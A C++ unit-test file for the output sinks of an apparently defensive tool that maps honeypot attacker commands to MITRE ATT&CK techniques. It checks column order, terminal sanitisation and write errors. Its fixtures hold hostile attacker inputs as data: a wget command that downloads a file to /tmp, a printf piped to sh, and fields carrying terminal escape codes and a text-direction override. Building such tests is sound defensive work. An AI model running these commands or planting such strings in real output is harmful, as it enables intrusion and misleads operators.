// SPDX-License-Identifier: Apache-2.0
#include "output/sink.hpp"

#include <doctest/doctest.h>
#include <fcntl.h>
#include <unistd.h>

#include <csignal>
#include <sstream>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "attack/catalogue.hpp"
#include "base/error.hpp"
#include "store/schema.hpp"
#include "support.hpp"

namespace ttp::output::sink_test {

namespace {

const RuleIdentity identity{"R0012", 10, "n", "enterprise-v18.1"};
const Emit emit{"TA0011", "T1105", std::nullopt, 0.85,
                "https://attack.mitre.org/techniques/T1105"};
const Emit sub{"TA0002", "T1059", "T1059.004", 0.5,
               "https://attack.mitre.org/techniques/T1059/004"};

/// What a sink writes for a few tags, the terminal being hostile as can be.
std::string written(std::string_view name, std::size_t limit) {
  const test::TemporaryDirectory directory;
  const std::string path = (directory.path() / "out").string();
  const test::OwnedEvent plain(
      R"({"source_kind":"command","source_id":"e1","attacker_uuid":"a1","session_id":"s1","ts":"2026-11-07T10:00:00.5Z","payload":{}})");
  const test::OwnedEvent hostile(
      R"({"source_kind":"command","source_id":"e\"2\n","identity_uuid":"i1","session_id":"\u001b[31mred\u202e","payload":{}})");
  {
    output::Stream out(path);
    const auto sink = output::find_sink(name)->make({out, false, 120, limit});
    output::Summary summary;
    summary.records = 3;
    summary.events = 3;
    summary.events_by_kind = {{"command", 3}};
    const auto write = [&](const test::OwnedEvent& event, const Emit& what,
                           std::string_view evidence) {
      const Tag tag{&event.get(),    &identity, &what, event.get().attacker_uuid,
                    what.confidence, evidence};
      summary.count_tag(tag);
      sink->write(tag, Uuid{});
    };
    write(plain, emit, R"({"command_text":"wget http://192.0.2.1/x -O /tmp/x"})");
    write(plain, sub, R"({"command_text":"printf '\u001b]0;title\u0007' | sh; and a long tail that does not fit into the row at all"})");
    write(hostile, sub, R"({})");
    sink->finish(summary);
    out.flush();
  }
  return test::read_file(path);
}

/// The columns of the database's table of tags, `ts` being what JSON lines have for `created_at`.
std::vector<std::string> columns_of_tags() {
  std::istringstream lines(store::tag_schema);
  std::vector<std::string> columns;
  bool inside = false;
  for (std::string line; std::getline(lines, line);) {
    if (line == "CREATE TABLE ttp_tag (") {
      inside = true;
    } else if (inside && line.starts_with("  PRIMARY KEY")) {
      break;
    } else if (inside) {
      columns.push_back(line.substr(2, line.find(' ', 2) - 2));
    }
  }
  if (!columns.empty() && columns.back() == "created_at") columns.back() = "ts";
  return columns;
}

}  // namespace

TEST_CASE("every sink writes its fixture") {
  for (const output::SinkInfo& info : output::all_sinks()) {
    test::check_fixture(test::data_path("output") / info.name / "tags.txt",
                        written(info.name, 0));
  }
}

TEST_CASE("JSON lines are JSON: the database's columns in their order, with the event's time as the last") {
  const std::string text = written("jsonl", 0);
  const auto first = nlohmann::ordered_json::parse(text.substr(0, text.find('\n')));
  const auto expected = nlohmann::ordered_json::parse(R"({
    "uuid": "00000000-0000-0000-0000-000000000000",
    "source_kind": "command",
    "source_id": "e1",
    "attacker_uuid": "a1",
    "identity_uuid": null,
    "session_id": "s1",
    "decky_id": null,
    "tactic": "TA0011",
    "technique_id": "T1105",
    "sub_technique_id": null,
    "confidence": 0.85,
    "rule_id": "R0012",
    "rule_version": 10,
    "evidence": {"command_text": "wget http://192.0.2.1/x -O /tmp/x"},
    "attack_release": "enterprise-v18.1",
    "mitre_url": "https://attack.mitre.org/techniques/T1105",
    "ts": "2026-11-07T10:00:00.500000Z"
  })");
  CHECK(first == expected);
  std::vector<std::string> keys;
  for (const auto& item : first.items()) keys.push_back(item.key());
  CHECK(keys == columns_of_tags());
}

TEST_CASE("the table lets no control character through and can be cut") {
  const std::string all = written("table", 0);
  for (const char c : all) CHECK((c == '\n' || static_cast<unsigned char>(c) >= 0x20));
  CHECK(all.find("\xE2\x80\xAE") == std::string::npos);
  CHECK(written("table", 1).find("and 2 more tags") != std::string::npos);
}

TEST_CASE("a reader that went away and a full disk are told apart") {
  int ends[2];
  REQUIRE(::pipe(ends) == 0);
  ::close(ends[0]);
  const auto old = std::signal(SIGPIPE, SIG_IGN);
  output::Stream closed(ends[1], "the pipe");
  CHECK_THROWS_AS([&] { closed.write("x"); closed.flush(); }(), ClosedPipe);
  std::signal(SIGPIPE, old);
  ::close(ends[1]);
  const int full = ::open("/dev/full", O_WRONLY);
  if (full >= 0) {
    output::Stream stream(full, "the full disk");
    CHECK_THROWS_WITH_AS([&] { stream.write("x"); stream.flush(); }(),
                         doctest::Contains("the full disk"), Error);
    ::close(full);
  }
  CHECK_THROWS_WITH_AS(output::Stream("/nonexistent/x"), doctest::Contains("/nonexistent/x"),
                       Error);
}

TEST_CASE("the catalogue knows techniques, sub-techniques, tactics and ATLAS") {
  CHECK(attack::technique_name("T1105") == "Ingress Tool Transfer");
  CHECK(attack::technique_name("T1059.004") == "Unix Shell");
  CHECK(attack::technique_name("AML.T0051") != "");
  CHECK(attack::technique_name("T9999") == "");
  CHECK(attack::tactic_name("TA0006") == "Credential Access");
}

}  // namespace ttp::output::sink_test
